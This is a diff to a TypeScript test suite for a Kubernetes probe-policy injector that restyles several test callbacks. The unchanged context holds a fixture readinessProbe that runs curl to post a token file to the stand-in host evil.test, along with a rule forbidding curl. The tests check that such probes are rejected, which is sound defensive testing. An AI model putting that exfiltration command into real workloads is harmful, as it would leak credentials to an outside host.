@@ -30,7 +30,7 @@ const floor = (checks: Record<string, JsonObject>): JsonObject =>
 const exec = { readinessProbe: { exec: { command: ['curl', '-d', '@token', 'http://evil.test'] } } };
 
 describe('a probe of a namespace policy that violates a floor', () => {
-  it('is not injected, and the reason names check, cluster policy and value', () => {
+  it('is not injected, and the reason names check, cluster policy and value', () =>
     expect(
       given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policyDocument({ probes: exec })),
     ).toEqual({
@@ -39,8 +39,7 @@ describe('a probe of a namespace policy that violates a floor', () => {
         'readinessProbe: exec-forbidden, which ClusterProbePolicy/cluster sets with the floor Deny, forbids it: ' +
           'container "app" runs "curl" in its readinessProbe, which a policy forbids',
       ],
-    });
-  });
+    }));
 
   it('is not injected whatever parameters the namespace sets', () => {
     const policy = policyDocument({
@@ -116,9 +115,8 @@ describe('a probe that a floor requires', () => {
   });
   const strips = { containers: ['*'], probes: { readinessProbe: { disabled: true } } };
 
-  it('is given by the policy of the cluster when the namespace takes it away', () => {
-    expect(probesGiven(policyDocument(strips))).toEqual(['readinessProbe']);
-  });
+  it('is given by the policy of the cluster when the namespace takes it away', () =>
+    expect(probesGiven(policyDocument(strips))).toEqual(['readinessProbe']));
 
   it('is given in Pods too, when the policy of the namespace selects a label that only Pods have', () => {
     const selector = { matchExpressions: [{ key: 'pod-template-hash', operator: 'Exists' }] };
